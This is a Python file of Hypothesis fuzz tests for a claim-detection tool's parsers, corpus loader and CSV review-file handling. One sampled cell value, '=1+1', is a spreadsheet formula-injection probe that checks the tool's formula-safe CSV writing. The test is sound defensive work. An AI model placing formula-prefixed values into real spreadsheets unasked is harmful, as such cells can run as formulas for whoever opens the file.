@given(st.lists(st.tuples(st.sampled_from(SUFFIXES), TEXTISH), min_size=1, max_size=4))
def test_fuzz_load_corpus_raises_only_corpus_error(files):
    with tempfile.TemporaryDirectory() as tmp:
        for n, (suffix, data) in enumerate(files):
            Path(tmp, f"f{n}{suffix}").write_bytes(data)
        try:
            docs, skipped = load_corpus(Path(tmp))
        except CorpusError as exc:
            assert str(exc) and exc.hint
            return
    assert docs and all(d.text.strip() and d.doc_id and d.source for d in docs)
    assert [d.doc_id for d in docs] == sorted(d.doc_id for d in docs)
    assert all(isinstance(line, str) and ": " in line for line in skipped)


@FUZZ
@given(st.binary(max_size=2000), st.booleans())
def test_fuzz_decode_bytes_raises_only_unreadable_file(data, allow_nul):
    try:
        text = decode_bytes(data, allow_nul=allow_nul)
    except UnreadableFile as exc:
        assert str(exc)
        return
    assert isinstance(text, str)


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=40), st.dates().map(str), st.datetimes().map(lambda d: d.strftime("%B %d, %Y")),
                 st.datetimes().map(str)))
def test_fuzz_parse_date_never_raises(value):
    result = parse_date(value)
    if result is not None:
        from datetime import date

        assert 1000 <= date.fromisoformat(result).year <= 9998


SENTENCES = st.one_of(
    st.text(max_size=200),
    st.lists(st.sampled_from([
        "up to", "at least", "between", "and", "nearly", "over", "€3 million", "1.5 lakh", "$5,000", "60 days",
        "7-2", "10", "45", "%", "per cent", "seventh", "a dozen", "killed", "injured", "Monday", "March 3",
        "31st of December", "yesterday", "tomorrow", "last night", "6 a.m.", "12:30 pm", "hours before", "-",
        ",", ".", "0", "1e309", "99999999999999999999999", "½", "٣", "Ⅻ", "\u00a0", "(", ")", "'", "“",
    ]), max_size=25).map(" ".join),
)


@settings(max_examples=400, deadline=None)
@given(SENTENCES)
def test_fuzz_number_parser_never_raises(text):
    from detector.rules.numbers import quantities

    for q in quantities(text):
        assert q.lo <= q.hi or q.hi != q.hi  # an interval (NaN never appears in practice)


@settings(max_examples=400, deadline=None)
@given(SENTENCES, st.one_of(st.none(), st.dates().map(lambda d: parse_date(d.isoformat()))))
def test_fuzz_date_parser_never_raises(text, doc_date):
    from detector.rules.dates import day_mentions, day_parts

    for value, written in day_mentions(text, doc_date):
        assert re.match(r"(?:by-|from-)?r?(?:md|wd|mo):", value) and written
    day_parts(text)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=400), st.text(max_size=400))
def test_fuzz_cleaning_and_claims_never_raise(raw, markup):
    from detector.claims import clean_text, extract_claims, html_to_text
    from detector.types import Document

    body, meta = html_to_text(markup)
    assert isinstance(body, str) and isinstance(meta, dict)
    text = clean_text(raw)
    for c in extract_claims(Document("d.txt", "S", text)):
        assert text[c.start:c.end] == c.text


@FUZZ
@given(st.binary(max_size=600) | st.text(max_size=300).map(lambda t: ("pair_id,verdict,note\n" + t).encode("utf-8")))
def test_fuzz_read_review_file_raises_only_review_file_error(data):
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp, "c.csv")
        path.write_bytes(data)
        try:
            columns, rows = read_review_file(path)
        except ReviewFileError as exc:
            assert exc.hint
            return
        assert path.read_bytes() == data
    if rows:
        assert "pair_id" in columns and len({r["pair_id"] for r in rows}) == len(rows)


CELL = st.text(max_size=30)
VERDICT = st.one_of(st.sampled_from(["yes", "no", "Y", "0", "maybe", "", " ", "=1+1"]), CELL)


@FUZZ
@given(
    new_ids=st.lists(st.text(alphabet="0123456789abcdef", min_size=1, max_size=4), unique=True, max_size=8),
    old=st.lists(st.tuples(st.text(alphabet="0123456789abcdef", min_size=1, max_size=4), VERDICT, CELL, CELL),
                 unique_by=lambda t: t[0], max_size=8),
    extra=st.lists(st.text(min_size=1, max_size=8).map(lambda c: "reviewer " + c), unique=True, max_size=2),
)
def test_fuzz_merge_reviews_never_raises_and_never_loses_a_review(new_ids, old, extra):
    new_rows = [{**{c: "" for c in COLUMNS}, "pair_id": pid, "claim_a": f"claim {pid}"} for pid in new_ids]
    old_columns = [*COLUMNS, *extra]
    old_rows = [{**{c: "" for c in old_columns}, "pair_id": pid, "verdict": v, "note": note,
                 **{c: value for c in extra}} for pid, v, note, value in old]
    columns, rows, warnings = merge_reviews(new_rows, old_columns, old_rows)
    by_id = {r["pair_id"]: r for r in rows}
    assert len(by_id) == len(rows)
    assert columns[:len(COLUMNS)] == COLUMNS and set(extra) <= set(columns)
    for pid, verdict, note, value in old:
        if pid in new_ids or verdict.strip() or note.strip() or (extra and value.strip()):
            assert by_id[pid]["verdict"] == verdict and by_id[pid]["note"] == note
    assert all(isinstance(w, str) for w in warnings)


@FUZZ
@given(st.lists(st.tuples(CELL, CELL), min_size=1, max_size=6))
def test_fuzz_any_cell_text_survives_a_write_and_read_back(cells):
    rows = [{**{c: "" for c in COLUMNS}, "pair_id": f"p{n}", "note": note, "claim_a": text} for n, (note, text) in enumerate(cells)]
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp, "c.csv")
        write_csv(path, COLUMNS, rows)
        _, got = read_review_file(path)
    assert [r["pair_id"] for r in got] == [r["pair_id"] for r in rows]
    for row, back in zip(rows, got):  # as typed, but formula-safe and with "\r" line breaks as "\n"
        assert back["note"] == safe_cell(row["note"]).replace("\r\n", "\n").replace("\r", "\n")
        assert back["claim_a"] == safe_cell(row["claim_a"]).replace("\r\n", "\n").replace("\r", "\n")


def test_typed_errors_are_all_detector_errors():
    for error in (CorpusError, ReviewFileError, OutputError):
        assert issubclass(error, DetectorError) and error("x").hint
